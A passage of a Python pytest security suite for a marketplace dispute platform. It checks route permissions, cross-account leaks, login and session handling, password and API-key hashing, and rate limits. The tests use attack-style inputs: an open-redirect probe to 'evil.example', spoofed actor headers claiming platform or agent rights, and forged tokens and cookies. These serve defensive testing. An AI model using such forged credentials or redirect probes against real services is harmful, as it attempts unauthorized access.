    ("GET", "/api/v1/webhook-endpoints/{endpoint_id}/attempts"): Spec("endpoint", HOOK_OWNERS),
    ("PATCH", "/api/v1/webhook-endpoints/{endpoint_id}"): Spec(
        "endpoint", HOOK_OWNERS, write=True, body=_const({"description": "改名"}), must_succeed=_always
    ),
    ("POST", "/api/v1/webhook-endpoints/{endpoint_id}/disable"): Spec(
        "endpoint", HOOK_OWNERS, write=True, must_succeed=_always
    ),
    ("POST", "/api/v1/webhook-endpoints/{endpoint_id}/enable"): Spec(
        "endpoint", HOOK_OWNERS, write=True, must_succeed=_always
    ),
    ("POST", "/api/v1/webhook-endpoints/{endpoint_id}/recover"): Spec(
        "endpoint", HOOK_OWNERS, write=True, must_succeed=_always
    ),
    ("POST", "/api/v1/webhook-endpoints/{endpoint_id}/rotate-secret"): Spec(
        "endpoint", HOOK_OWNERS, write=True, body=_const({"grace_hours": 1}), must_succeed=_always
    ),
    ("POST", "/api/v1/webhook-endpoints/{endpoint_id}/replay"): Spec(
        "endpoint", HOOK_OWNERS, write=True, body=_const({"since": "2026-11-01T00:00:00Z"}), must_succeed=_always
    ),
}

# Answer without credentials, and serve nothing that belongs to anyone.
PUBLIC = {
    ("POST", "/api/v1/auth/login"),
    ("GET", "/api/v1/policy"),
    ("GET", "/api/v1/event-types"),  # the event catalogue: no object data
    ("GET", "/policy"),
    ("GET", "/healthz"),
    ("GET", "/metrics"),  # request counts by route template and backlogs: no object data
    ("GET", "/login"),
    ("POST", "/login"),
    ("POST", "/logout"),
    ("GET", "/openapi.json"),
    ("GET", "/docs"),
    ("GET", "/docs/oauth2-redirect"),
    ("GET", "/redoc"),
    ("MOUNT", "/static"),
}

# Pages behind the login: caller kinds that may open them (the others are sent elsewhere or refused).
PAGES: dict[tuple[str, str], frozenset[str]] = {
    ("GET", "/"): ALL,
    # The seller workbench: shop staff, their own shop only (tests/test_web_seller.py checks another
    # shop's case is a 404 there).
    ("GET", "/seller"): frozenset({"seller"}),
    ("GET", "/seller/cases/{case_id}"): frozenset({"seller"}),
    ("POST", "/seller/cases/{case_id}/act/{action}"): frozenset({"seller"}),
    ("POST", "/seller/cases/{case_id}/evidence"): frozenset({"seller"}),
    ("POST", "/seller/bulk-agree"): frozenset({"seller"}),
    ("GET", "/seller/rules"): frozenset({"seller"}),
    ("POST", "/seller/rules"): frozenset({"seller"}),
    ("POST", "/seller/rules/{rule_id}/toggle"): frozenset({"seller"}),
    ("POST", "/seller/rules/{rule_id}/delete"): frozenset({"seller"}),
    ("GET", "/seller/record"): frozenset({"seller"}),
    ("GET", "/seller/metrics"): frozenset({"seller"}),
    # webhook endpoints in the consoles: a shop's staff their own shop's, admins everyone's
    ("GET", "/seller/webhooks"): frozenset({"seller"}),
    ("POST", "/seller/webhooks"): frozenset({"seller"}),
    ("POST", "/seller/webhooks/{endpoint_id}/{operation}"): frozenset({"seller"}),
    ("GET", "/admin/webhooks"): frozenset({"admin"}),
    ("POST", "/admin/webhooks"): frozenset({"admin"}),
    ("POST", "/admin/webhooks/{endpoint_id}/{operation}"): frozenset({"admin"}),
    # The buyer console (tests/test_web_buyer.py checks that a buyer reaches only their own objects).
    ("GET", "/buyer"): frozenset({"buyer"}),
    ("GET", "/buyer/orders/{order_id}"): frozenset({"buyer"}),
    ("POST", "/buyer/orders/{order_id}/request"): frozenset({"buyer"}),
    ("POST", "/buyer/triage-hint"): frozenset({"buyer"}),  # the request form's triage suggestion
    ("POST", "/buyer/orders/{order_id}/complaint"): frozenset({"buyer"}),
    ("POST", "/buyer/complaints/{complaint_id}/withdraw"): frozenset({"buyer"}),
    ("GET", "/buyer/cases/{case_id}"): frozenset({"buyer"}),
    ("POST", "/buyer/cases/{case_id}/act/{action}"): frozenset({"buyer"}),
    ("POST", "/buyer/cases/{case_id}/evidence"): frozenset({"buyer"}),
    ("POST", "/buyer/cases/{case_id}/appeal"): frozenset({"buyer"}),
    ("POST", "/buyer/cases/{case_id}/rating"): frozenset({"buyer"}),
    ("GET", "/buyer/attachments/{attachment_id}"): frozenset({"buyer", "seller", "agent", "admin"}),
    # the agent desk: agents (admins act as agents); a case outside intervention is a 404 there
    ("GET", "/agent"): AGENTS,
    ("GET", "/agent/disputes/{dispute_id}"): AGENTS,
    ("GET", "/agent/cases/{case_id}"): AGENTS,
    ("POST", "/agent/disputes/{dispute_id}/assign"): AGENTS,
    ("POST", "/agent/disputes/{dispute_id}/note"): AGENTS,
    ("POST", "/agent/evidence/{evidence_id}/share"): AGENTS,
    ("POST", "/agent/disputes/{dispute_id}/ruling"): AGENTS,
    ("POST", "/agent/disputes/{dispute_id}/appeal-decision"): AGENTS,
    # 售后投诉 in each console: the page checks the console is the caller's own
    ("GET", "/{console}/service-complaints"): frozenset({"buyer", "seller", "agent", "admin"}),
    ("POST", "/{console}/service-complaints"): frozenset({"buyer", "agent", "admin"}),
    ("POST", "/{console}/service-complaints/{complaint_id}/act"): frozenset({"buyer", "seller", "agent", "admin"}),
    ("GET", "/agent/complaints"): AGENTS,
    ("POST", "/agent/complaints/{complaint_id}/decision"): AGENTS,
    ("POST", "/agent/complaints/{complaint_id}/appeal-decision"): AGENTS,
    # the platform dashboard shows every shop's deposit: admins only
    ("GET", "/dashboard"): frozenset({"admin"}),
    ("GET", "/dashboard/data.json"): frozenset({"admin"}),
}


def app_routes(app: Any) -> set[tuple[str, str]]:
    """(method, path) of every route, seen through included routers."""
    try:
        from fastapi.routing import iter_route_contexts
    except ImportError:  # older FastAPI: the routes are flat
        contexts: Any = app.routes
    else:
        contexts = iter_route_contexts(app.routes)
    found: set[tuple[str, str]] = set()
    for route in contexts:
        original = getattr(route, "original_route", route)
        path = getattr(route, "path", None) or getattr(original, "path", None)
        methods = getattr(route, "methods", None) or getattr(original, "methods", None)
        if path is None:
            continue
        if not methods:
            found.add(("MOUNT", path))
            continue
        for method in methods:
            if method != "HEAD" or methods == {"HEAD"}:
                found.add((method, path))
        assert isinstance(original, APIRoute) or not path.startswith(API_PREFIX), path
    return found


# --- fixtures ---------------------------------------------------------------------------------------


def _empty_business(rt: Runtime, keep: tuple[str, ...]) -> None:
    tables = [t for t in reversed(Base.metadata.sorted_tables) if t.name not in keep]
    with rt.engine.begin() as conn:
        if rt.engine.dialect.name == "postgresql":
            conn.execute(text("TRUNCATE " + ", ".join(t.name for t in tables) + " RESTART IDENTITY CASCADE"))
        else:
            for table in tables:
                conn.execute(table.delete())


KEEP_ACCOUNTS = ("policy_versions", "users", "auth_sessions", "api_keys")


@pytest.fixture
def real_sec_rt(rt: Runtime, database_url: str) -> Iterator[Runtime]:
    """A deployment that trusts no X-Peifu-Actor header, on the emptied test database."""
    settings = Settings(database_url=database_url, trust_actor_header=False, rate_limit_per_minute=0)
    srt = Runtime(settings, clock=ManualClock(START), migrate=False)
    yield srt
    srt.close()


@pytest.fixture
def sec_rt(real_sec_rt: Runtime) -> Runtime:
    """The same (Argon2id at its lowest cost, as in every test: tests/conftest.py;
    `test_secrets_are_never_stored_in_clear` checks the production parameters)."""
    return real_sec_rt


@dataclass
class Keys:
    platform: str
    shop_a: str


def make_accounts(srt: Runtime) -> Keys:
    with srt.uow() as ctx:
        for user_id, (role, party) in USERS.items():
            auth.create_user(ctx.session, user_id, role, PASSWORD, ctx.now(), party_id=party, display_name=user_id)
        platform = auth.create_api_key(ctx.session, "platform", "integration", ctx.now()).key
        shop_a = auth.create_api_key(ctx.session, "shop:s-alpha", "shop A ERP", ctx.now()).key
    return Keys(platform, shop_a)


def login(client: TestClient, user_id: str, password: str = PASSWORD) -> str:
    resp = client.post(f"{API_PREFIX}/auth/login", json={"username": user_id, "password": password})
    client.cookies.clear()  # the session cookie must not ride along on later requests
    assert resp.status_code == 200, resp.text
    return str(resp.json()["token"])


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def caller_headers(client: TestClient, keys: Keys) -> dict[str, dict[str, str]]:
    headers = {caller: bearer(login(client, user)) for caller, user in LOGIN_OF.items()}
    headers["platform"] = bearer(keys.platform)
    headers["shop_a_key"] = bearer(keys.shop_a)
    return headers


# --- the matrix -------------------------------------------------------------------------------------


def fingerprint(srt: Runtime) -> dict[str, Any]:
    """Everything a refused request could have changed."""
    skip = {"auth_sessions", "idempotency_keys", "policy_versions"}
    with srt.factory() as session:
        counts = {
            t.name: session.scalar(select(func.count()).select_from(t))
            for t in Base.metadata.sorted_tables
            if t.name not in skip
        }
        return {
            "counts": counts,
            "orders": sorted(tuple(r) for r in session.execute(select(Order.id, Order.state))),
            "cases": sorted(tuple(r) for r in session.execute(select(Case.id, Case.state, Case.abusive))),
            "disputes": sorted(
                tuple(r) for r in session.execute(select(Dispute.id, Dispute.status, Dispute.assigned_agent))
            ),
            "evidence": sorted(tuple(r) for r in session.execute(select(Evidence.id, Evidence.shared))),
            "complaints": sorted(
                tuple(r) for r in session.execute(select(Complaint.id, Complaint.status, Complaint.appealed_at))
            ),
            "rules": sorted(
                tuple(r)
                for r in session.execute(select(SellerAutoRule.id, SellerAutoRule.enabled, SellerAutoRule.name))
            ),
        }


def fill(path: str, ref: str | None) -> str:
    """The path for an object; an object named by two parameters (a shop's rule) carries both, '/'-separated."""
    if ref is None:
        return path
    parts = iter(ref.split("/") if path.count("{") > 1 else [ref])
    return re.sub(r"\{[^}]+\}", lambda _: next(parts), path)


def answer_text(resp: httpx.Response) -> str:
    if resp.headers.get("content-type", "").startswith("application/json"):
        try:
            return json.dumps(resp.json(), ensure_ascii=False)
        except ValueError:
            pass
    return resp.content.decode("utf-8", "replace")


def error_code(resp: httpx.Response) -> str | None:
    try:
        return str(resp.json()["error"]["code"])
    except (ValueError, KeyError, TypeError):
        return None


@dataclass
class Matrix:
    client: TestClient
    world: World
    headers: dict[str, dict[str, str]]
    requests: int = 0
    checks: int = 0
    problems: list[str] = field(default_factory=list)
    ghosts: dict[tuple[str, str, str], tuple[int, str | None]] = field(default_factory=dict)
    cells: dict[str, int] = field(default_factory=dict)

    def send(
        self, caller: str | None, method: str, path: str, spec: Spec, obj: Obj | None, ref: str | None
    ) -> tuple[httpx.Response, str]:
        kwargs: dict[str, Any] = {}
        sent = ""
        if spec.upload:
            kwargs["files"] = {"file": ("zq-upload.png", PNG + b"upload", "image/png")}
            kwargs["data"] = {"kind": "image"}
        elif spec.body is not None:
            target = obj
            if obj is None and spec.target is not None and ref is not None:
                target = Obj(spec.target, "ghost", ref, None)
            body = spec.body(target, caller or "anonymous")
            if body is not None:
                kwargs["json"] = body
                sent = json.dumps(body, ensure_ascii=False)
        url = fill(path, ref) if "{" in path else path
        headers = self.headers.get(caller, {}) if caller else {}
        assert not self.client.cookies, "a cookie would authenticate the request"
        resp = self.client.request(method, url, headers=headers, **kwargs)
        self.requests += 1
        if resp.headers.get("x-frame-options") != "DENY" or "frame-ancestors 'none'" not in resp.headers.get(
            "content-security-policy", ""
        ):
            self.fail(caller, method, url, resp, "an answer without frame protection")
        return resp, url + " " + sent

    def fail(self, caller: str | None, method: str, url: str, resp: httpx.Response, why: str) -> None:
        self.problems.append(f"{caller or 'anonymous'} {method} {url} → {resp.status_code}: {why}; {resp.text[:300]}")

    def forbidden_markers(self, caller: str, spec: Spec) -> set[str]:
        kind, _ = CALLERS[caller]
        hidden = set()
        seen = set()
        wide = spec.agents_see_all and kind in AGENTS  # a platform-wide agent tool: all but evidence and persons
        for obj in self.world.objects:
            visible = sees(caller, obj) or (wide and obj.kind not in ("evidence", "person"))
            (seen if visible else hidden).update(obj.markers)
        return hidden - seen

    def no_leak(self, caller: str, method: str, spec: Spec, resp: httpx.Response, sent: str) -> None:
        self.checks += 1
        body = answer_text(resp)
        for marker in self.forbidden_markers(caller, spec):
            if marker in body and marker not in sent:
                self.fail(caller, method, sent, resp, f"LEAK of {marker!r}")

    def ghost(self, caller: str, method: str, path: str, spec: Spec) -> tuple[int, str | None]:
        key = (caller, method, path)
        if key not in self.ghosts:
            assert spec.target is not None
            resp, _ = self.send(caller, method, path, spec, None, GHOST[spec.target])
            self.ghosts[key] = (resp.status_code, error_code(resp))
        return self.ghosts[key]

    def count(self, cell: str) -> None:
        self.cells[cell] = self.cells.get(cell, 0) + 1

    # -- one cell of the matrix ------------------------------------------------------------------------

    def anonymous(self, method: str, path: str, spec: Spec) -> None:
        """No credentials, and junk ones: a 401 — and, for a POST under an Idempotency-Key, no key
        kept (the caller is resolved before the idempotency layer; see test_security_matrix)."""
        obj = self.world.of(spec.target)[0] if spec.target else None
        for name, headers in [("anonymous", {}), ("junk", {"Authorization": "Bearer junk-token"})]:
            self.headers[name] = {**headers, "Idempotency-Key": f"anon-{method}-{path}"}
            resp, sent = self.send(name, method, path, spec, obj, obj.ref if obj else None)
            self.count(name)
            self.checks += 1
            if resp.status_code != 401:
                self.fail(name, method, sent, resp, "expected 401 without valid credentials")

    def foreign(self, caller: str, method: str, path: str, spec: Spec, obj: Obj) -> None:
        resp, sent = self.send(caller, method, path, spec, obj, obj.ref)
        self.count("foreign")
        self.checks += 3
        if 200 <= resp.status_code < 300:
            self.fail(caller, method, sent, resp, f"LEAK: {obj.name} is not theirs")
        elif resp.status_code not in (403, 404):
            self.fail(caller, method, sent, resp, f"{obj.name} is not theirs: expected 404 (or a 403 refusal)")
        ghost = self.ghost(caller, method, path, spec)
        if (resp.status_code, error_code(resp)) != ghost:
            self.fail(caller, method, sent, resp, f"{obj.name} is distinguishable from a missing object {ghost}")
        self.no_leak(caller, method, spec, resp, sent)

    def refused(self, caller: str, method: str, path: str, spec: Spec, obj: Obj | None) -> None:
        resp, sent = self.send(caller, method, path, spec, obj, obj.ref if obj else None)
        self.count("refused")
        self.checks += 1
        if resp.status_code not in spec.refusal:
            self.fail(caller, method, sent, resp, f"role refusal expected {sorted(spec.refusal)}")
        self.no_leak(caller, method, spec, resp, sent)

    def fixed(self, caller: str, method: str, path: str, spec: Spec) -> None:
        assert spec.fixed is not None
        resp, sent = self.send(caller, method, path, spec, None, None)
        self.count("fixed")
        self.checks += 1
        if (resp.status_code, error_code(resp)) != spec.fixed:
            self.fail(caller, method, sent, resp, f"expected {spec.fixed}")

    def read(self, caller: str, method: str, path: str, spec: Spec, obj: Obj | None) -> None:
        resp, sent = self.send(caller, method, path, spec, obj, obj.ref if obj else None)
        self.count("own read")
        self.checks += 2
        if obj is not None and spec.ok_when is not None and not spec.ok_when(obj):
            if resp.status_code != 404:
                self.fail(caller, method, sent, resp, f"{obj.name} has nothing to show: expected 404")
        elif not 200 <= resp.status_code < 300:
            self.fail(caller, method, sent, resp, f"own read of {obj.name if obj else path} refused")
        elif spec.check is not None:
            why = spec.check(resp, obj, caller, self.world)
            if why:
                self.fail(caller, method, sent, resp, why)
        self.no_leak(caller, method, spec, resp, sent)

    def write(self, caller: str, method: str, path: str, spec: Spec, obj: Obj | None) -> None:
        resp, sent = self.send(caller, method, path, spec, obj, obj.ref if obj else None)
        self.count("own write")
        self.checks += 2
        if resp.status_code >= 500 or resp.status_code in (401, 404):
            self.fail(caller, method, sent, resp, "an own write must be done or refused by the rules")
        elif spec.must_succeed is not None and spec.must_succeed(obj) and not 200 <= resp.status_code < 300:
            self.fail(caller, method, sent, resp, "this write must succeed on a fresh world")
        self.no_leak(caller, method, spec, resp, sent)


def _cells(world: World, caller: str, spec: Spec) -> Iterator[tuple[Obj | None, bool]]:
    """(object, own?) for every object of the spec's kind (one None for object-less endpoints)."""
    kind, _ = CALLERS[caller]
    if spec.target is None:
        yield None, True
        return
    for obj in world.of(spec.target):
        own = sees(caller, obj) or (spec.agents_see_all and kind in AGENTS)
        yield obj, own


# --- tests ------------------------------------------------------------------------------------------


def test_every_route_has_an_expectation(sec_rt: Runtime) -> None:
    routes = app_routes(create_app(sec_rt))
    listed = set(API) | PUBLIC | set(PAGES)
    assert sorted(routes - listed) == [], "routes without a row in the security matrix"
    assert sorted(listed - routes) == [], "rows of the security matrix for routes that do not exist"
    assert all(path.startswith(API_PREFIX) for _, path in API)


@pytest.mark.slow
def test_security_matrix(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    world = seed(sec_rt)
    app = create_app(sec_rt)
    with TestClient(app, raise_server_exceptions=False) as client:
        m = Matrix(client, world, caller_headers(client, keys))
        before = fingerprint(sec_rt)
        writes: list[tuple[str, str, str, Spec]] = []
        for (method, path), spec in API.items():
            m.anonymous(method, path, spec)
            for caller, (kind, _) in CALLERS.items():
                if spec.fixed is not None:
                    m.fixed(caller, method, path, spec)
                    continue
                for obj, own in _cells(world, caller, spec):
                    if not own:
                        assert obj is not None
                        m.foreign(caller, method, path, spec, obj)
                    elif kind not in spec.allowed:
                        m.refused(caller, method, path, spec, obj)
                    elif not spec.write:
                        m.read(caller, method, path, spec, obj)
                if kind in spec.allowed and spec.write:
                    writes.append((caller, method, path, spec))
        # Foreign requests, refusals and reads changed nothing at all, and no unauthenticated
        # request kept an idempotency key.
        assert fingerprint(sec_rt) == before
        with sec_rt.factory() as session:
            assert session.scalar(select(func.count()).select_from(IdempotencyRecord)) == 0
        assert not m.problems, "\n".join(m.problems[:60])

        # Own writes: each caller on a freshly seeded world, the ones that must succeed first.
        for caller in CALLERS:
            _empty_business(sec_rt, KEEP_ACCOUNTS)
            m.world = seed(sec_rt)
            mine = [(mt, p, s) for c, mt, p, s in writes if c == caller]
            mine.sort(key=lambda row: row[2].must_succeed is None)
            for method, path, spec in mine:
                if path.endswith("/auth/logout") and caller in LOGIN_OF:
                    # log out a second session of the same user; the matrix keeps its own
                    spare = bearer(login(client, LOGIN_OF[caller]))
                    resp = client.post(path, headers=spare)
                    m.requests += 1
                    assert resp.status_code == 200, resp.text
                    assert client.get(f"{API_PREFIX}/auth/me", headers=spare).status_code == 401
                    assert client.get(f"{API_PREFIX}/auth/me", headers=m.headers[caller]).status_code == 200
                    m.requests += 2
                    continue
                for obj, own in _cells(m.world, caller, spec):
                    if own:
                        m.write(caller, method, path, spec, obj)
        assert not m.problems, "\n".join(m.problems[:60])

    cells = ", ".join(f"{k} {v}" for k, v in sorted(m.cells.items()))
    print(  # visible with -s
        f"\nsecurity matrix: {len(API)} endpoints × {len(CALLERS) + 1} callers; {m.requests} requests "
        f"({cells}; {len(m.ghosts)} missing-object probes), {m.checks} checks, 0 leaks"
    )


def test_listing_filters_never_widen_what_a_caller_sees(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    seed(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        h = caller_headers(client, keys)
        for caller, query in [
            ("seller_a", "shop_id=s-beta"),
            ("shop_a_key", "shop_id=s-beta"),
            ("buyer_a", "buyer_id=b-beta"),
            ("buyer_a", "shop_id=s-beta"),
            ("seller_b", "buyer_id=b-alpha"),
            ("agent", "state=requested"),  # requests not in intervention are not an agent's
        ]:
            resp = client.get(f"{API_PREFIX}/cases?{query}", headers=h[caller])
            assert resp.status_code == 200, resp.text
            assert resp.json() == [], (caller, query, resp.text)
        for caller in ("buyer_a", "buyer_b", "seller_a", "seller_b", "shop_a_key"):
            resp = client.get(f"{API_PREFIX}/complaints?status=open", headers=h[caller])
            side = CALLERS[caller][1]
            assert [c["shop_id"] for c in resp.json()] == [SIDES[side or "A"]["shop"]], resp.text


def test_personal_data_is_masked_for_everyone_but_the_buyer_and_the_dispute_agent(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    seed(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        h = caller_headers(client, keys)
        phone = SIDES["A"]["phone"]
        for caller, order_id, clear in [
            ("buyer_a", "OA-plain", True),
            ("agent", "OA-disp", True),  # the agent handling the dispute
            ("agent", "OA-cmp", False),  # a complaint is not a dispute about the buyer's goods
            ("seller_a", "OA-disp", False),
            ("shop_a_key", "OA-plain", False),
            ("platform", "OA-plain", False),
        ]:
            resp = client.get(f"{API_PREFIX}/orders/{order_id}", headers=h[caller])
            assert resp.status_code == 200, resp.text
            buyer = resp.json()["buyer"]
            assert (buyer["phone"] == phone) is clear, (caller, order_id, buyer)
            assert buyer["masked"] is not clear


def test_the_session_cookie_follows_the_same_rules(sec_rt: Runtime) -> None:
    make_accounts(sec_rt)
    world = seed(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        resp = client.post(f"{API_PREFIX}/auth/login", json={"username": "u-buyer-a", "password": PASSWORD})
        assert resp.status_code == 200
        assert client.cookies.get("peifu_session")
        own = client.get(f"{API_PREFIX}/cases/{world.named('CA-req').ref}")
        assert own.status_code == 200, own.text
        foreign = client.get(f"{API_PREFIX}/cases/{world.named('CB-req').ref}")
        assert (foreign.status_code, error_code(foreign)) == (404, "case_not_found")
        assert "OB-req" not in foreign.text
        assert client.get(f"{API_PREFIX}/orders/OB-plain").status_code == 404
        assert client.post(f"{API_PREFIX}/orders", json=_new_order(None, "cookie")).status_code == 403
        client.post(f"{API_PREFIX}/auth/logout")
        client.cookies.clear()
        assert client.get(f"{API_PREFIX}/cases/{world.named('CA-req').ref}").status_code == 401


def test_pages_behind_the_login(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False, follow_redirects=False) as client:
        for method, path in PAGES:
            anonymous = client.request(method, path)
            assert anonymous.status_code in (302, 303, 401), (path, anonymous.status_code)
            assert anonymous.headers.get("location", "/login").startswith("/login")
            # pages take the session cookie only: an API key in a header does not open them
            with_key = client.request(method, path, headers=bearer(keys.platform))
            assert with_key.status_code in (302, 303, 401), (path, with_key.status_code)
            assert with_key.headers.get("location", "/login").startswith("/login")
        resp = client.post("/login", data={"username": "u-buyer-a", "password": PASSWORD})
        assert resp.status_code == 303
        home = client.get("/")
        assert home.status_code == 303 and home.headers["location"] == "/buyer"
        client.cookies.clear()
        wrong = client.post("/login", data={"username": "u-buyer-a", "password": "not-the-password"})
        assert wrong.status_code == 401
        assert not client.cookies.get("peifu_session")
        # never sent off-site after logging in
        away = client.post("/login?next=//evil.example/x", data={"username": "u-buyer-a", "password": PASSWORD})
        assert away.status_code == 303 and away.headers["location"] == "/buyer"
        # every page, signed in or not, refuses to be framed and runs no inline script
        for method, path in [*PAGES, ("GET", "/login"), ("GET", "/policy")]:
            page = client.request(method, path)
            policy = page.headers.get("content-security-policy", "")
            assert page.headers.get("x-frame-options") == "DENY", path
            assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy, (path, policy)


def test_sandbox_clock_needs_the_platform(rt: Runtime, database_url: str) -> None:
    settings = Settings(database_url=database_url, sandbox=True, trust_actor_header=False, rate_limit_per_minute=0)
    srt = Runtime(settings, migrate=False)
    try:
        keys = make_accounts(srt)
        with TestClient(create_app(srt), raise_server_exceptions=False) as client:
            h = caller_headers(client, keys)
            path = f"{API_PREFIX}/sandbox/clock"
            assert client.get(path).status_code == 401
            assert client.post(path, json={"advance_seconds": 60}).status_code == 401
            for caller, (kind, _) in CALLERS.items():
                reading = client.get(path, headers=h[caller])
                moving = client.post(path, json={"advance_seconds": 60, "fire_due": False}, headers=h[caller])
                if kind in PLATFORM:
                    assert reading.status_code == 200, reading.text
                    assert moving.status_code == 200, moving.text
                else:
                    assert (reading.status_code, error_code(reading)) == (403, "actor_not_allowed"), caller
                    assert (moving.status_code, error_code(moving)) == (403, "actor_not_allowed"), caller
            final = client.get(path, headers=h["platform"]).json()
            assert final["offset_seconds"] == 60 * len([k for k, _ in CALLERS.values() if k in PLATFORM])
    finally:
        srt.close()


# --- credentials ------------------------------------------------------------------------------------


@pytest.mark.production_password_cost
def test_secrets_are_never_stored_in_clear(real_sec_rt: Runtime) -> None:
    sec_rt = real_sec_rt
    keys = make_accounts(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        tokens = [login(client, user) for user in USERS]
    with sec_rt.factory() as session:
        users = list(session.scalars(select(User)))
        assert len(users) == len(USERS)
        for user in users:
            assert user.password_hash.startswith("$argon2id$v=19$m=65536,t=3,p=4$"), user.password_hash[:32]
            assert PasswordHasher().verify(user.password_hash, PASSWORD)
            assert PASSWORD not in user.password_hash
        stored_keys = list(session.scalars(select(ApiKey)))
        assert len(stored_keys) == 2
        for key in (keys.platform, keys.shop_a):
            key_id, _, secret = key.partition(".")
            row = session.get(ApiKey, key_id)
            assert row is not None and len(secret) >= 32
            assert row.secret_hash == hashlib.sha256(secret.encode()).hexdigest()
            assert secret not in repr([getattr(row, c.key) for c in ApiKey.__table__.columns])
        stored_sessions = {s.token_hash for s in session.scalars(select(AuthSession))}
        for token in tokens:
            assert token not in stored_sessions
            assert hashlib.sha256(token.encode()).hexdigest() in stored_sessions
    with sec_rt.engine.connect() as conn:  # nowhere in any table, in any column
        for table in Base.metadata.sorted_tables:
            for row in conn.execute(table.select()):
                dumped = repr(tuple(row))
                assert PASSWORD not in dumped, table.name
                for secret in [k.partition(".")[2] for k in (keys.platform, keys.shop_a)] + tokens:
                    assert secret not in dumped, table.name


def test_bad_credentials_are_401(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    clock = sec_rt.clock
    assert isinstance(clock, ManualClock)
    me = f"{API_PREFIX}/auth/me"
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        for username, password in [("u-buyer-a", "wrong-password!"), ("nobody", PASSWORD), ("u-admin", PASSWORD + "x")]:
            resp = client.post(f"{API_PREFIX}/auth/login", json={"username": username, "password": password})
            assert (resp.status_code, error_code(resp)) == (401, "invalid_credentials")
            assert "token" not in resp.text and not client.cookies.get("peifu_session")

        key_id, _, secret = keys.shop_a.partition(".")
        assert client.get(me, headers=bearer(keys.shop_a)).status_code == 200
        for wrong in [f"{key_id}.{secret[:-1]}x", f"{key_id}.", "pk_000000000000.abc", f"{key_id}.{secret}.x"]:
            resp = client.get(me, headers=bearer(wrong))
            assert resp.status_code == 401, wrong
        with sec_rt.uow() as ctx:
            row = ctx.session.get(ApiKey, key_id)
            assert row is not None
            row.revoked_at = ctx.now()
        resp = client.get(me, headers=bearer(keys.shop_a))
        assert (resp.status_code, error_code(resp)) == (401, "invalid_api_key")
        assert client.get(f"{API_PREFIX}/cases", headers=bearer(keys.shop_a)).status_code == 401

        token = login(client, "u-seller-a")
        assert client.get(me, headers=bearer(token)).status_code == 200
        for header in [f"Basic {token}", "Bearer", "Bearer ", token, f"Bearer {'x' * 300}", "Bearer not-a-token"]:
            resp = client.get(me, headers={"Authorization": header})
            assert resp.status_code == 401, header
        # expiry: a session lives 12 hours
        clock.advance(timedelta(hours=12))
        resp = client.get(me, headers=bearer(token))
        assert (resp.status_code, error_code(resp)) == (401, "session_expired")
        # a disabled user's live session stops working at once
        token = login(client, "u-buyer-a")
        assert client.get(me, headers=bearer(token)).status_code == 200
        with sec_rt.uow() as ctx:
            user = ctx.session.get(User, "u-buyer-a")
            assert user is not None
            user.disabled_at = ctx.now()
        assert client.get(me, headers=bearer(token)).status_code == 401
        resp = client.post(f"{API_PREFIX}/auth/login", json={"username": "u-buyer-a", "password": PASSWORD})
        assert resp.status_code == 401


def test_the_actor_header_is_refused_when_not_trusted(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    world = seed(sec_rt)
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        for method, path, body in [
            ("GET", f"{API_PREFIX}/cases", None),
            ("GET", f"{API_PREFIX}/cases/{world.named('CA-req').ref}", None),
            ("GET", f"{API_PREFIX}/orders/OA-plain", None),
            ("POST", f"{API_PREFIX}/orders", _new_order(None, "header")),
            ("POST", f"{API_PREFIX}/platform/fund", {"amount_fen": 100}),
            ("GET", f"{API_PREFIX}/auth/me", None),
        ]:
            for actor in ["platform:platform", "agent:u-admin", "buyer:b-alpha", "seller:s-alpha"]:
                resp = client.request(method, path, json=body, headers={"X-Peifu-Actor": actor})
                assert (resp.status_code, error_code(resp)) == (401, "actor_header_not_trusted"), (path, actor)
        # with real credentials the header is not what decides: the credentials are
        resp = client.get(
            f"{API_PREFIX}/orders/OB-plain",
            headers={**bearer(keys.shop_a), "X-Peifu-Actor": "platform:platform"},
        )
        assert resp.status_code == 404
        assert client.get(f"{API_PREFIX}/orders/OA-plain", headers=bearer(keys.shop_a)).status_code == 200


# --- found by attack (issue 21): bad credentials, assignment, uploads ---------------------------------


def test_bad_credentials_of_every_kind_share_their_address_bucket(
    real_sec_rt: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A caller without valid credentials is counted by its address, whatever it sends instead."""
    limited = replace(real_sec_rt.settings, rate_limit_per_minute=4)
    monkeypatch.setattr(real_sec_rt, "settings", limited)
    keys = make_accounts(real_sec_rt)
    revoked_id = keys.shop_a.partition(".")[0]
    with real_sec_rt.uow() as ctx:
        row = ctx.session.get(ApiKey, revoked_id)
        assert row is not None
        row.revoked_at = ctx.now()
    kinds: list[Callable[[int], dict[str, str]]] = [
        lambda i: {"Authorization": f"Bearer junk-{i}"},
        lambda i: {"Authorization": f"Bearer pk_{i:012d}.secret"},
        lambda i: {"Authorization": f"Basic {i}"},
        lambda i: {"Authorization": f"Bearer {keys.shop_a}{'x' * i}"},
        lambda i: {"Cookie": f"peifu_session=made-up-{i}"},
        lambda i: {"X-Peifu-Actor": f"platform:platform-{i}"},  # not trusted here
    ]
    for n, kind in enumerate(kinds):
        address = f"198.51.100.{n + 1}"
        with TestClient(create_app(real_sec_rt), raise_server_exceptions=False, client=(address, 1234)) as client:
            answers = [client.get(f"{API_PREFIX}/cases", headers=kind(i)).status_code for i in range(5)]
            assert answers == [401, 401, 401, 401, 429], (n, answers)
            # the platform's valid key from the same address still has its own bucket
            assert client.get(f"{API_PREFIX}/auth/me", headers=bearer(keys.platform)).status_code == 200


def test_disputes_are_assigned_only_to_agents_who_are_not_parties(sec_rt: Runtime) -> None:
